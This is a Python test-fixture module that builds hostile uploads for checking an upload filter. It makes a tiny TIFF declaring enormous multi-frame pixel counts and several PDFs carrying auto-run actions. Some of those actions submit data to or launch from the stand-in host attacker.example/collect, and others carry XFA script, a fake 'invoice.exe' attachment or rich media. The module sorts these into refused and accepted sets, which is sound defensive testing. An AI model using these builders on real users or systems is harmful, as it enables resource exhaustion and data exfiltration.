"""Hostile uploads made at test time: many-frame TIFFs and PDFs with actions or files inside."""

import io
import struct
from collections.abc import Callable

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

from testkit.evidence_samples import pdf

# TIFF 6.0 tags and field types used below.
_SHORT, _LONG = 3, 4
_TAGS = (256, 257, 258, 259, 262, 273, 277, 278, 279)


def many_frame_tiff(frames: int = 60, width: int = 7000, height: int = 7000) -> bytes:
    """A small TIFF of `frames` bilevel pages of width x height, as the probe sent.

    One CCITT Group 4 page is encoded once and every page's IFD points at it, so the
    file is a few kilobytes and quick to make, yet declares frames x width x height pixels.
    """
    one = io.BytesIO()
    Image.new("1", (width, height)).save(one, format="TIFF", compression="group4")
    with Image.open(io.BytesIO(one.getvalue())) as page:
        offset, count = page.tag_v2[273][0], page.tag_v2[279][0]
        photometric = page.tag_v2[262]
    strip = one.getvalue()[offset : offset + count]
    out = bytearray(b"II*\x00" + struct.pack("<I", 0))
    strip_at = len(out)
    out += strip
    if len(out) % 2:
        out += b"\x00"
    out[4:8] = struct.pack("<I", len(out))
    for index in range(frames):
        values = {
            256: (_LONG, width),
            257: (_LONG, height),
            258: (_SHORT, 1),
            259: (_SHORT, 4),
            262: (_SHORT, photometric),
            273: (_LONG, strip_at),
            277: (_SHORT, 1),
            278: (_LONG, height),
            279: (_LONG, len(strip)),
        }
        ifd_size = 2 + 12 * len(_TAGS) + 4
        following = len(out) + ifd_size if index + 1 < frames else 0
        out += struct.pack("<H", len(_TAGS))
        for tag in _TAGS:
            kind, value = values[tag]
            # A value that fits sits in the entry itself, left-justified.
            packed = struct.pack("<HH", value, 0) if kind == _SHORT else struct.pack("<I", value)
            out += struct.pack("<HHI", tag, kind, 1) + packed
        out += struct.pack("<I", following)
    return bytes(out)


def _n(name: str) -> NameObject:
    return NameObject(name)


def _action(kind: str, **entries: object) -> DictionaryObject:
    action = DictionaryObject({_n("/S"): _n(kind)})
    for key, value in entries.items():
        action[_n(f"/{key}")] = value  # type: ignore[assignment]
    return action


def _with(change: Callable[[PdfWriter], None]) -> bytes:
    """The sample PDF rewritten with one change made to its objects."""
    writer = PdfWriter(clone_from=io.BytesIO(pdf("Hostile")))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _open_action(action: object) -> Callable[[PdfWriter], None]:
    def change(writer: PdfWriter) -> None:
        writer._root_object[_n("/OpenAction")] = writer._add_object(action)  # type: ignore[arg-type]

    return change


def _page_annotation(annotation: DictionaryObject) -> Callable[[PdfWriter], None]:
    def change(writer: PdfWriter) -> None:
        box = ArrayObject([FloatObject(10), FloatObject(10), FloatObject(100), FloatObject(40)])
        annotation.update({_n("/Type"): _n("/Annot"), _n("/Rect"): box})
        writer.pages[0][_n("/Annots")] = ArrayObject([writer._add_object(annotation)])

    return change


def _page_additional_action(action: DictionaryObject) -> Callable[[PdfWriter], None]:
    def change(writer: PdfWriter) -> None:
        writer.pages[0][_n("/AA")] = DictionaryObject({_n("/O"): writer._add_object(action)})

    return change


def _xfa(writer: PdfWriter) -> None:
    script = StreamObject()
    script.set_data(b"<xdp:xdp><script>app.alert(1)</script></xdp:xdp>")
    form = DictionaryObject({_n("/Fields"): ArrayObject(), _n("/XFA"): writer._add_object(script)})
    writer._root_object[_n("/AcroForm")] = writer._add_object(form)


def _embedded_file(writer: PdfWriter) -> None:
    writer.add_attachment("invoice.exe", b"MZ not really a program")


def _file_attachment(writer: PdfWriter) -> None:
    stream = StreamObject()
    stream.set_data(b"hidden")
    stream[_n("/Type")] = _n("/EmbeddedFile")
    spec = DictionaryObject(
        {
            _n("/Type"): _n("/Filespec"),
            _n("/F"): TextStringObject("note.txt"),
            _n("/EF"): DictionaryObject({_n("/F"): writer._add_object(stream)}),
        }
    )
    annotation = DictionaryObject(
        {_n("/Subtype"): _n("/FileAttachment"), _n("/FS"): writer._add_object(spec)}
    )
    _page_annotation(annotation)(writer)


def _goto_first_page(writer: PdfWriter) -> None:
    target = ArrayObject([writer.pages[0].indirect_reference, _n("/Fit")])
    writer._root_object[_n("/OpenAction")] = writer._add_object(_action("/GoTo", D=target))


def _destination_only(writer: PdfWriter) -> None:
    writer._root_object[_n("/OpenAction")] = ArrayObject(
        [writer.pages[0].indirect_reference, _n("/Fit")]
    )


URL = TextStringObject("https://attacker.example/collect")
REFUSED_PDFS: dict[str, Callable[[], bytes]] = {
    "xfa-form": lambda: _with(_xfa),
    "open-action-uri": lambda: _with(_open_action(_action("/URI", URI=URL))),
    "open-action-submit-form": lambda: _with(_open_action(_action("/SubmitForm", F=URL))),
    "open-action-import-data": lambda: _with(_open_action(_action("/ImportData", F=URL))),
    "open-action-gotor": lambda: _with(_open_action(_action("/GoToR", F=URL))),
    "open-action-launch": lambda: _with(_open_action(_action("/Launch", F=URL))),
    "open-action-named-print": lambda: _with(_open_action(_action("/Named", N=_n("/Print")))),
    "page-opens-named-action": lambda: _with(
        _page_additional_action(_action("/Named", N=_n("/Print")))
    ),
    "link-to-uri": lambda: _with(
        _page_annotation(
            DictionaryObject({_n("/Subtype"): _n("/Link"), _n("/A"): _action("/URI", URI=URL)})
        )
    ),
    "rich-media-annotation": lambda: _with(
        _page_annotation(DictionaryObject({_n("/Subtype"): _n("/RichMedia")}))
    ),
    "rich-media-action": lambda: _with(_open_action(_action("/RichMediaExecute"))),
    "embedded-file": lambda: _with(_embedded_file),
    "file-attachment-annotation": lambda: _with(_file_attachment),
    "rendition-action": lambda: _with(_open_action(_action("/Rendition", OP=NumberObject(0)))),
}
"""PDFs the filter refuses, by what they carry."""
ACCEPTED_PDFS: dict[str, Callable[[], bytes]] = {
    "plain": lambda: pdf("Plain"),
    "opens-at-first-page-goto": lambda: _with(_goto_first_page),
    "opens-at-first-page-destination": lambda: _with(_destination_only),
    "page-opens-goto": lambda: _with(
        _page_additional_action(_action("/GoTo", D=ArrayObject([NumberObject(0), _n("/Fit")])))
    ),
}
"""PDFs with only harmless navigation: accepted."""
